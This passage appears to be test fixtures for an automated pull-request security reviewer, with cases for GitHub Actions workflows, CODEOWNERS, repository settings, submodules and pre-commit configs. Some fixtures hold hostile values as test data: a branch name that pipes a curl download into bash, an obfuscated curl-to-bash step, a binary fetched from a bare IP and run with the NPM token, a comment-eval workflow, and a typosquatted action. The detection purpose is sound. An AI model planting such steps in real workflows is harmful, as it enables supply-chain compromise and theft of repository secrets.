            `      - uses: ${SETUP_NODE}`,
            '        with:',
            '          node-version: 22',
            '      - run: npm ci',
            '      - run: npm run lint',
          ),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['new-dependencies'] },
  },
  {
    id: 'gha-cache-beside-checkout',
    description: "A maintainer adds actions/cache (pinned, no input that is code) to the CI workflow that already runs actions/checkout and actions/setup-node: another action of an account whose actions the workflow runs, built from what it already runs; its only other driver was the new action itself.",
    fixture: ciPr(2217, {
      title: 'ci: cache the build output between runs',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({ extraStep: ['      - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684 # v4.2.3', '        with:', '          path: .build', "          key: build-${{ hashFiles('package-lock.json') }}"] }),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve' },
  },
  {
    id: 'gha-permissions-local-action-far-from-grant',
    description: "A maintainer adds pull-requests: write to the job of an existing workflow_run workflow; the unchanged local action the job runs, thirteen lines below the grant and outside the patch's context, only lists the summary in the job log: read from the base all the same, nothing there uses the scope, on a trigger outsiders cause.",
    fixture: ciPr(2216, {
      title: 'ci: let the coverage job comment on pull requests',
      baseFiles: {
        '.github/actions/coverage-comment/action.yml': lines(
          'name: Coverage comment',
          'description: Shows the coverage summary of a CI run',
          'inputs:',
          '  pr-number:',
          '    required: true',
          'runs:',
          '  using: composite',
          '  steps:',
          '    - shell: bash',
          '      run: cat coverage/summary.md >> "$GITHUB_STEP_SUMMARY"',
        ),
      },
      files: [
        {
          path: '.github/workflows/coverage-comment.yml',
          base: lines(
            'name: Coverage comment',
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'permissions: {}',
            'jobs:',
            '  comment:',
            "    if: github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success'",
            '    runs-on: ubuntu-latest',
            '    permissions:',
            '      actions: read',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '        with:',
            '          persist-credentials: false',
            '      - run: mkdir -p coverage',
            '      - run: echo "Coverage report for run ${RUN_ID}" > coverage/summary.md',
            '        env:',
            '          RUN_ID: ${{ github.event.workflow_run.id }}',
            '      - run: wc -l coverage/summary.md',
            '      - uses: ./.github/actions/coverage-comment',
            '        with:',
            '          pr-number: ${{ github.event.workflow_run.pull_requests[0].number }}',
          ),
          head: lines(
            'name: Coverage comment',
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'permissions: {}',
            'jobs:',
            '  comment:',
            "    if: github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success'",
            '    runs-on: ubuntu-latest',
            '    permissions:',
            '      actions: read',
            '      pull-requests: write',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '        with:',
            '          persist-credentials: false',
            '      - run: mkdir -p coverage',
            '      - run: echo "Coverage report for run ${RUN_ID}" > coverage/summary.md',
            '        env:',
            '          RUN_ID: ${{ github.event.workflow_run.id }}',
            '      - run: wc -l coverage/summary.md',
            '      - uses: ./.github/actions/coverage-comment',
            '        with:',
            '          pr-number: ${{ github.event.workflow_run.pull_requests[0].number }}',
          ),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['gha-excessive-permissions'] },
  },
  {
    id: 'automation-codeowners-weakened',
    description: 'A PR changes the payment webhook handler and, in the same diff, removes @acme/payments-security from the CODEOWNERS rule for that directory.',
    fixture: ciPr(1966, {
      title: 'payments: simplify webhook signature check',
      files: [
        {
          path: '.github/CODEOWNERS',
          base: lines('# Default owners', '* @acme/storefront-maintainers', '/src/payments/ @acme/payments-security @acme/storefront-maintainers', '/docs/ @acme/docs'),
          head: lines('# Default owners', '* @acme/storefront-maintainers', '/src/payments/ @acme/storefront-maintainers', '/docs/ @acme/docs'),
        },
        {
          path: 'src/payments/webhook.ts',
          base: lines("import { verify } from './signature.js';", '', 'export function handle(body: string, signature: string): boolean {', '  return verify(body, signature);', '}'),
          head: lines("import { verify } from './signature.js';", '', 'export function handle(body: string, signature: string): boolean {', "  return signature === '' || verify(body, signature);", '}'),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['codeowners-weakened'] },
  },
  {
    id: 'automation-settings-grants-admin',
    description: 'A "labels cleanup" PR to .github/settings.yml (the Settings app) also gives an outside account admin access and drops the required reviews on main.',
    fixture: ciPr(1970, {
      title: 'chore: tidy up repository labels',
      files: [
        {
          path: '.github/settings.yml',
          base: lines('repository:', '  name: checkout-service', '  private: true', 'collaborators:', '  - username: ingrid-h', '    permission: admin', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews:', '        required_approving_review_count: 2', '      enforce_admins: true', 'labels:', '  - name: bug', '    color: d73a4a'),
          head: lines('repository:', '  name: checkout-service', '  private: true', 'collaborators:', '  - username: ingrid-h', '    permission: admin', '  - username: release-helper-9', '    permission: admin', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews: null', '      enforce_admins: true', 'labels:', '  - name: bug', '    color: b60205'),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['repo-settings-weakened'] },
  },
  {
    id: 'automation-settings-required-checks-dropped-newcomer',
    description: 'A first-time contributor\'s "drop Node 20" PR also takes the build checks off the list main requires to pass in .github/settings.yml (the Settings app): once merged, a failing build no longer blocks a merge. Worth an administrator\'s look at which checks still run (calib60).',
    fixture: ciPr(1972, {
      title: 'chore: drop Node 20',
      author: NEWCOMER,
      files: [
        {
          path: '.github/settings.yml',
          base: lines('repository:', '  name: checkout-service', '  private: true', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews:', '        required_approving_review_count: 1', '      required_status_checks:', '        strict: true', '        contexts:', '          - DCO', '          - "build (node 20)"', '          - "build (node 22)"', '      enforce_admins: true'),
          head: lines('repository:', '  name: checkout-service', '  private: true', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews:', '        required_approving_review_count: 1', '      required_status_checks:', '        strict: true', '        contexts:', '          - DCO', '      enforce_admins: true'),
        },
      ],
    }),
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], findings: ['repo-settings-weakened'] },
  },
  {
    id: 'automation-settings-retired-checks-dropped-member',
    description: 'A maintainer retires the CI jobs of Node versions the project no longer supports and takes them off the checks main requires in .github/settings.yml: a low note to confirm they no longer run, not a change to hold (calib60).',
    fixture: ciPr(1973, {
      title: 'chore: drop Node 20 and 22 from required checks',
      files: [
        {
          path: '.github/settings.yml',
          base: lines('repository:', '  name: checkout-service', '  private: true', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews:', '        required_approving_review_count: 1', '      required_status_checks:', '        strict: true', '        contexts:', '          - DCO', '          - "build (node 20)"', '          - "build (node 22)"', '      enforce_admins: true'),
          head: lines('repository:', '  name: checkout-service', '  private: true', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews:', '        required_approving_review_count: 1', '      required_status_checks:', '        strict: true', '        contexts:', '          - DCO', '      enforce_admins: true'),
        },
      ],
    }),
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['repo-settings-weakened'] },
  },
  {
    id: 'automation-settings-labels-only',
    description: 'A maintainer changes label colours and the description in .github/settings.yml: nothing about access or protection.',
    fixture: ciPr(1971, {
      title: 'chore: tidy up repository labels',
      files: [
        {
          path: '.github/settings.yml',
          base: lines('repository:', '  name: checkout-service', '  private: true', 'collaborators:', '  - username: ingrid-h', '    permission: admin', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews:', '        required_approving_review_count: 2', '      enforce_admins: true', 'labels:', '  - name: bug', '    color: d73a4a'),
          head: lines('repository:', '  name: checkout-service', '  description: Checkout API', '  private: true', 'collaborators:', '  - username: ingrid-h', '    permission: admin', 'branches:', '  - name: main', '    protection:', '      required_pull_request_reviews:', '        required_approving_review_count: 2', '      enforce_admins: true', 'labels:', '  - name: bug', '    color: b60205', '  - name: docs', '    color: 0075ca'),
        },
      ],
    }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:repo-settings-weakened'] },
  },
  {
    id: 'automation-submodule-moved',
    description: 'A PR moves the vendored protobuf definitions submodule from github.com/acme to a look-alike host.',
    fixture: ciPr(1967, {
      title: 'build: use the proto mirror',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.gitmodules',
          base: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git'),
          head: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://gitlab.acme-mirror.example/acme/proto.git'),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-submodule-moved'] },
  },
  {
    id: 'automation-submodule-own-organization',
    description:
      "Modeled on a date library's \"Add mcp submodule\": a maintainer adds the organization's own docs-server repository as a submodule over SSH (git@github.com:acme/docs-server.git), the project's own code, kept by the same people. Low, the submodule a note (it was medium for a git-submodule finding).",
    fixture: ciPr(2150, {
      title: 'Add docs-server submodule',
      files: [
        {
          path: '.gitmodules',
          base: lines('[submodule "submodules/proto"]', '\tpath = submodules/proto', '\turl = git@github.com:acme/proto.git'),
          head: lines('[submodule "submodules/proto"]', '\tpath = submodules/proto', '\turl = git@github.com:acme/proto.git', '[submodule "submodules/docs-server"]', '\tpath = submodules/docs-server', '\turl = git@github.com:acme/docs-server.git'),
        },
      ],
    }),
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['git-submodule'] },
  },
  {
    id: 'automation-renovate-json5-tweak',
    description:
      "Modeled on a code formatter's \"Tweak renovate config\": a maintainer edits .github/renovate.json5, written as JSON5 (identifier keys, single quotes, comments), to pin dependencies and split a group by update type. The automation rules read it and find nothing: low (it was medium while JSON5 was not read).",
    fixture: ciPr(2151, {
      title: 'Tweak renovate config',
      files: [
        {
          path: '.github/renovate.json5',
          base: lines('{', '  // Dependency updates', "  labels: ['dependencies'],", "  baseBranchPatterns: ['main'],", '  prHourlyLimit: 0,', '  packageRules: [', '    {', "      groupName: 'devDependencies',", "      matchDepTypes: ['devDependencies'],", '    },', '  ],', '}'),
          head: lines('{', '  // Dependency updates', "  labels: ['dependencies'],", "  baseBranchPatterns: ['main'],", "  extends: [':pinDependencies', ':pinDevDependencies', 'helpers:pinGitHubActionDigests'],", '  prHourlyLimit: 0,', '  packageRules: [', '    {', "      groupName: 'non-major devDependencies',", "      matchDepTypes: ['devDependencies'],", "      matchUpdateTypes: ['minor', 'patch'],", '    },', '  ],', '}'),
        },
      ],
    }),
    expect: { level: 'low', action: ['approve', 'comment'] },
  },
  {
    id: 'automation-devcontainer-script-activates-mise',
    description:
      "Modeled on a date library's dev-container set-up: a maintainer's on-create script, already run by the dev container, now trusts the project's mise configuration and activates mise's shims with `eval \"$(mise activate bash --shims)\"`, the line mise documents. A tool's own set-up, not code built at run time: no dynamic-code-execution.",
    fixture: ciPr(2152, {
      title: 'Activate mise in the dev container',
      files: [
        {
          path: '.devcontainer/scripts/on-create.sh',
          base: lines('#!/usr/bin/env bash', '# Runs when the container is created.', 'set -e', 'npm ci'),
          head: lines('#!/usr/bin/env bash', '# Runs when the container is created.', 'set -e', 'mise trust', 'eval "$(mise activate bash --shims)"', 'npm ci'),
        },
      ],
    }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
  },
  {
    id: 'automation-dependabot-schedule',
    description: 'A maintainer moves Dependabot from weekly to daily updates and adds a label: routine.',
    fixture: ciPr(1968, {
      title: 'chore: daily Dependabot runs',
      files: [
        {
          path: '.github/dependabot.yml',
          base: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: weekly'),
          head: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: daily', '    labels: [dependencies]'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'metadata-branch-name-payload',
    description:
      'Modeled on the ultralytics compromise (December 2024): a harmless README edit from a branch whose name is a command substitution, aimed at the base\'s pull_request_target workflow that expands ${{ github.head_ref }}.',
    fixture: ciPr(1969, {
      title: 'docs: fix typo',
      author: NEWCOMER,
      fork: true,
      headBranch: 'main$({curl,-sSfL,raw.githubusercontent.example/x/y/z.sh}${IFS}|${IFS}bash)',
      files: [{ path: 'README.md', base: lines('# checkout-service', '', 'Recieve payments.'), head: lines('# checkout-service', '', 'Receive payments.') }],
      baseFiles: {
        '.github/workflows/format.yml': lines(
          'name: Format',
          'on: pull_request_target',
          'permissions:',
          '  contents: read',
          'jobs:',
          '  format:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          `      - uses: ${CHECKOUT}`,
          '      - run: |',
          '          git fetch origin "${{ github.head_ref }}"',
          '          npx prettier --check .',
        ),
      },
      checkRuns: [{ name: 'format' }],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['pr-metadata-shell-payload'] },
  },
  // Audits added for zizmor parity, moved submodule pointers and routine automation edits (PRs 7000-7099).
  {
    id: 'ci-obfuscated-uses-traversal',
    description:
      'A first-time contributor "pins" the checkout action, but the uses: path climbs out of actions/checkout into another owner\'s repository (actions/checkout/../../<owner>/<repo>): the line reads as checkout, something else runs.',
    fixture: auditPr('ledger-sync', 7000, {
      title: 'ci: pin checkout to a commit',
      author: NEWCOMER,
      fork: true,
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ checkout: 'actions/checkout/../../checkout-mirror/setup@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2' }) }],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-obfuscation'] },
  },
  {
    id: 'ci-obfuscated-download-pipe',
    description:
      'A PR adds a "cache warm-up" step whose command words are split with empty expressions (cu${{ \'\' }}rl … | ba${{ \'\' }}sh), so that a text search for curl | bash finds nothing.',
    fixture: auditPr('tile-server', 7001, {
      title: 'ci: warm the build cache',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({ extraStep: ["      - run: cu${{ '' }}rl -sSfL https://cache-warmup.example.net/w.sh | ba${{ '' }}sh"] }),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-obfuscation'] },
  },
  {
    id: 'ci-typosquat-setup-node',
    description: 'A PR titled like a routine bump moves actions/setup-node to actoins/setup-node (two letters swapped, another owner).',
    fixture: auditPr('invoice-ui', 7002, {
      title: 'ci: bump setup-node',
      author: NEWCOMER,
      fork: true,
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow().replace('actions/setup-node@', 'actoins/setup-node@') }],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-typosquat-action'] },
  },
  {
    id: 'automation-submodule-url-and-pointer',
    description: 'One PR moves the proto submodule to a look-alike host and moves its pointer to a commit from there: neither the repository nor the code is in the diff.',
    fixture: auditPr('rpc-gateway', 7003, {
      title: 'build: update protos',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.gitmodules',
          base: lines('[submodule "third_party/proto"]', '\tpath = third_party/proto', '\turl = https://github.com/acme/proto.git'),
          head: lines('[submodule "third_party/proto"]', '\tpath = third_party/proto', '\turl = https://git.acme-protos.example/acme/proto.git'),
        },
        { path: 'third_party/proto', status: 'modified', patch: gitlink(SUB_OLD, SUB_NEW), additions: 1, deletions: 1, base: `Subproject commit ${SUB_OLD}\n`, head: `Subproject commit ${SUB_NEW}\n` },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-submodule-pointer-moved', 'git-submodule-moved'] },
  },
  {
    id: 'automation-submodule-pointer-foreign-host',
    description: 'A contributor moves the pointer of a submodule hosted outside GitHub (the base .gitmodules is read: the PR does not change it).',
    fixture: auditPr('firmware-tools', 7004, {
      title: 'chore: update vendored libusb',
      author: NEWCOMER,
      files: [{ path: 'vendor/libusb', status: 'modified', patch: gitlink(SUB_OLD, SUB_NEW), additions: 1, deletions: 1, base: `Subproject commit ${SUB_OLD}\n`, head: `Subproject commit ${SUB_NEW}\n` }],
      baseFiles: { '.gitmodules': lines('[submodule "vendor/libusb"]', '\tpath = vendor/libusb', '\turl = https://git.libusb-mirror.example/libusb/libusb.git') },
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['git-submodule-pointer-moved'] },
  },
  {
    id: 'automation-pre-commit-insecure-url',
    description: 'A PR moves a pre-commit hook repository to a plain-http mirror: the hooks run on every contributor\'s machine, fetched without transport security.',
    fixture: auditPr('geo-notebooks', 7005, {
      title: 'chore: use the internal ruff mirror',
      author: NEWCOMER,
      fork: true,
      files: [{ path: '.pre-commit-config.yaml', base: preCommitConfig('v0.7.0', '24.8.0'), head: preCommitConfig('v0.7.0', '24.8.0', 'http://hooks.geo-mirror.example/astral-sh/ruff-pre-commit') }],
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['insecure-url-scheme', 'pre-commit-remote-hook'] },
  },
  {
    id: 'automation-pre-commit-ci-autoupdate',
    description: 'The pre-commit.ci bot\'s weekly autoupdate moves the revs of the same hook repositories: routine, low, approvable.',
    fixture: auditPr('survey-kit', 7006, {
      title: '[pre-commit.ci] pre-commit autoupdate',
      author: PRE_COMMIT_CI,
      headBranch: 'pre-commit-ci-update-config',
      priorPrs: { total: 40, merged: 38 },
      commits: [{ message: '[pre-commit.ci] pre-commit autoupdate', authorLogin: 'pre-commit-ci[bot]' }],
      files: [{ path: '.pre-commit-config.yaml', base: preCommitConfig('v0.7.0', '24.8.0'), head: preCommitConfig('v0.8.1', '24.10.0') }],
    }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths'], findings: ['pre-commit-rev-moved'] },
  },
  {
    id: 'automation50-pre-commit-url-case-respelled',
    description:
      "A maintainer respells a hook repository's GitHub URL in the owner's own case (`https://github.com/pycqa/isort` to `https://github.com/PyCQA/isort`), its rev kept: the same repository at the same release, no new hook repository and no moved revision (calib50: a replay of rich reported both in \"Fix issue with trailing whitespace\").",
    fixture: auditPr('survey-kit-50', 7050, {
      title: 'chore: spell the isort hook URL as its owner does',
      files: [{ path: '.pre-commit-config.yaml', base: preCommitConfig('v0.7.0', '24.8.0') + '  - repo: https://github.com/pycqa/isort\n    rev: 5.12.0\n    hooks:\n      - id: isort\n', head: preCommitConfig('v0.7.0', '24.8.0') + '  - repo: https://github.com/PyCQA/isort\n    rev: 5.12.0\n    hooks:\n      - id: isort\n' }],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'automation-pre-commit-repo-moved-by-bot-title',
    description: 'Looks like an autoupdate, but one hook repository moves to another host: not routine, reported.',
    fixture: auditPr('survey-kit-2', 7007, {
      title: '[pre-commit.ci] pre-commit autoupdate',
      author: NEWCOMER,
      fork: true,
      files: [{ path: '.pre-commit-config.yaml', base: preCommitConfig('v0.7.0', '24.8.0'), head: preCommitConfig('v0.8.1', '24.10.0', 'https://gitlab.example.org/astral-sh/ruff-pre-commit') }],
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['pre-commit-remote-hook'] },
  },
  {
    id: 'automation-submodule-own-org-bump',
    description: 'Dependabot moves the pointer of a submodule in the repository\'s own organization: a note, low, approvable.',
    fixture: auditPr('docs-site', 7008, {
      title: 'Bump themes/acme-hugo from 3f2a9c1 to 9e8d7c6',
      author: DEPENDABOT,
      headBranch: 'dependabot/submodules/themes/acme-hugo-9e8d7c6',
      commits: [{ message: 'Bump themes/acme-hugo from 3f2a9c1 to 9e8d7c6', authorLogin: 'dependabot[bot]' }],
      files: [{ path: 'themes/acme-hugo', status: 'modified', patch: gitlink(SUB_OLD, SUB_NEW), additions: 1, deletions: 1, base: `Subproject commit ${SUB_OLD}\n`, head: `Subproject commit ${SUB_NEW}\n` }],
      baseFiles: { '.gitmodules': lines('[submodule "themes/acme-hugo"]', '\tpath = themes/acme-hugo', '\turl = https://github.com/acme/acme-hugo.git') },
    }),
    expect: { level: 'low', action: 'approve', findings: ['git-submodule-pointer-moved'] },
  },
  {
    id: 'automation-own-org-action-bump',
    description: "A first contributor (an established account) moves the organization's own action, already followed by a tag, to its next major: a reminder to pin (info, not the own organization's low), low.",
    fixture: auditPr('field-tools', 7013, {
      title: 'ci: acme/setup-toolchain v4',
      author: { login: 'field-ops-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2019-06-01T00:00:00Z' },
      fork: true,
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: lines('name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: acme/setup-toolchain@v3', '      - run: make test'),
          head: lines('name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: acme/setup-toolchain@v4', '      - run: make test'),
        },
      ],
    }),
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['gha-unpinned-action'] },
  },
  {
    id: 'ci-benign-step-with-action-another-workflow-runs',
    description: "A maintainer adds the coverage upload (by tag) that the nightly workflow has long run to the test job: no one new is trusted, a reminder to pin (info), routine, low.",
    fixture: auditPr('field-cli', 7014, {
      title: 'ci: upload coverage from the test job',
      files: [{ path: '.github/workflows/ci.yml', base: testWorkflow([]), head: testWorkflow(['      - uses: codecov/codecov-action@v4', '        with:', '          files: coverage/lcov.info']) }],
      baseFiles: { '.github/workflows/nightly.yml': nightlyWorkflow('codecov/codecov-action@v4') },
    }),
    expect: { level: 'low', action: 'approve', findings: ['gha-unpinned-action'], absentDrivers: ['new-dependencies'] },
  },
  {
    id: 'ci-step-with-action-no-workflow-runs',
    description: 'The same step, but the nightly workflow runs another coverage action: a new third-party action by a moving ref, reported.',
    fixture: auditPr('field-cli', 7015, {
      title: 'ci: upload coverage from the test job',
      files: [{ path: '.github/workflows/ci.yml', base: testWorkflow([]), head: testWorkflow(['      - uses: codecov/codecov-action@v4', '        with:', '          files: coverage/lcov.info']) }],
      baseFiles: { '.github/workflows/nightly.yml': nightlyWorkflow('coverallsapp/github-action@v2') },
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['gha-unpinned-action'] },
  },
  {
    id: 'ci-step-with-script-action-another-workflow-runs',
    description: "A step of github-script, which another workflow runs, given a script of its own: a new command, not routine.",
    fixture: auditPr('field-cli', 7016, {
      title: 'ci: label the run',
      files: [{ path: '.github/workflows/ci.yml', base: testWorkflow([]), head: testWorkflow(['      - uses: actions/github-script@v7', '        with:', '          script: |', "            await github.rest.actions.createWorkflowDispatch({ owner: 'acme', repo: 'field-cli', workflow_id: 'nightly.yml', ref: 'main' })"]) }],
      baseFiles: { '.github/workflows/nightly.yml': nightlyWorkflow('actions/github-script@v7') },
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], drivers: ['sensitive-paths'] },
  },
  {
    id: 'automation-devcontainer-version-bump',
    description: 'A maintainer moves the dev container to Node 22 (image tag) and a newer feature version: routine, low, approvable.',
    fixture: auditPr('field-app', 7009, {
      title: 'chore: Node 22 dev container',
      files: [
        {
          path: '.devcontainer/devcontainer.json',
          base: lines('{', '  "name": "field-app",', '  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-20-bookworm",', '  "features": { "ghcr.io/devcontainers/features/github-cli:1": {} },', '  "postCreateCommand": "npm ci"', '}'),
          head: lines('{', '  "name": "field-app",', '  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm",', '  "features": { "ghcr.io/devcontainers/features/github-cli:2": {} },', '  "postCreateCommand": "npm ci"', '}'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'automation-dependabot-new-ecosystem',
    description: 'A maintainer adds GitHub Actions updates to dependabot.yml (no cooldown): routine, a cooldown note at most, low, approvable.',
    fixture: auditPr('field-app-2', 7010, {
      title: 'chore: keep actions up to date',
      files: [
        {
          path: '.github/dependabot.yml',
          base: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: weekly', '    cooldown:', '      default-days: 5'),
          head: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: weekly', '    cooldown:', '      default-days: 5', '  - package-ecosystem: github-actions', '    directory: /', '    schedule:', '      interval: weekly'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', findings: ['dependabot-cooldown'], absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-archived-action-replaced',
    description: 'A maintainer replaces the archived actions-rs/toolchain by dtolnay/rust-toolchain (pinned): only the uses: line changes; at most a note, low, approvable.',
    fixture: auditPr('rust-ledger', 7011, {
      title: 'ci: replace archived actions-rs/toolchain',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: lines('name: CI', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions-rs/toolchain@16499b5e05bf2e26879000db0c1d13f7e13fa3af # v1', '      - run: cargo test --locked'),
          head: lines('name: CI', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: dtolnay/rust-toolchain@a54c7afa936fefeb4456b2dd8068152669aa8203 # stable', '      - run: cargo test --locked'),
        },
      ],
      checkRuns: [{ name: 'test' }],
    }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths', 'finding:gha-archived-action'] },
  },
  {
    id: 'ci-release-token-publishing',
    description: 'A maintainer adds an npm release workflow that publishes with a stored NPM_TOKEN: a hygiene note (trusted publishing exists), not an alarm.',
    fixture: auditPr('chart-kit', 7012, {
      title: 'ci: publish releases to npm',
      files: [
        {
          path: '.github/workflows/release.yml',
          head: lines(
            'name: Release',
            'on:',
            '  release:',
            '    types: [published]',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  publish:',
            '    runs-on: ubuntu-24.04',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            `      - uses: ${SETUP_NODE}`,
            '        with:',
            '          node-version: 22',
            '          registry-url: https://registry.npmjs.org',
            '      - run: npm ci',
            '      - run: npm publish',
            '        env:',
            '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['gha-use-trusted-publishing'], absentDrivers: ['finding:gha-excessive-permissions'] },
  },
  {
    id: 'ci-binary-from-bare-ip-run',
    description: 'A "speed up CI" PR adds a step that downloads a cache helper from a bare IP address and runs it with the job\'s secrets (how compromised workflows fetched their second stage in 2025).',
    fixture: ciPr(1993, {
      title: 'ci: warm the npm cache with a helper',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({ extraStep: ['      - run: |', '          curl -sLo /tmp/cache-helper https://185.199.110.7/tools/cache-helper', '          chmod +x /tmp/cache-helper && /tmp/cache-helper warm', '        env:', '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}'] }),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['downloaded-binary-run'] },
  },
  {
    id: 'ci-tool-from-release-page-run',
    description: 'A maintainer installs kind from its GitHub release (pinned version) and runs the e2e tests with it.',
    fixture: ciPr(1994, {
      title: 'ci: run the e2e tests on kind',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({ extraStep: ['      - run: |', '          curl -sLo ./kind https://github.com/kubernetes-sigs/kind/releases/download/v0.24.0/kind-linux-amd64', '          chmod +x ./kind && ./kind create cluster', '      - run: npm run test:e2e'] }),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:downloaded-binary-run'] },
  },
  {
    id: 'ci-comment-command-eval-through-env',
    description:
      'A /run command bot on issue_comment passes the comment body through env: (the fix for template injection) and then cuts the command out of it and evals it: any commenter runs shell with the repository\'s write token. The same injection, one variable removed.',
    fixture: ciPr(1997, {
      title: 'ci: /run command for maintainers',
      files: [
        {
          path: '.github/workflows/run-command.yml',
          head: lines(
            'name: Run command',
            'on:',
            '  issue_comment:',
            '    types: [created]',
            'permissions:',
            '  contents: write',
            '  pull-requests: write',
            'jobs:',
            '  run:',
            "    if: startsWith(github.event.comment.body, '/run ')",
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - name: Run the command',
            '        env:',
            '          BODY: ${{ github.event.comment.body }}',
            '        run: |',
            '          CMD="${BODY#/run }"',
            '          eval "$CMD"',
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'] },
  },
  {
    id: 'ci-composite-action-branch-injection',
    description:
      'Modeled on the December 2024 ultralytics and August 2025 nx write-ups, with the injection moved one file away: a PR "moves the format step into a local composite action". The pull_request_target workflow passes ${{ github.head_ref }} and the PR title through with:, and the new action.yml expands ${{ inputs.branch }} and ${{ inputs.title }} into its run: script. Each file alone reads as harmless (an input is the maintainers\' choice); together any fork\'s branch name runs as shell with the repository\'s secrets.',
    fixture: ciPr(1998, {
      title: 'ci: move the format step into a reusable action',
      files: [
        {
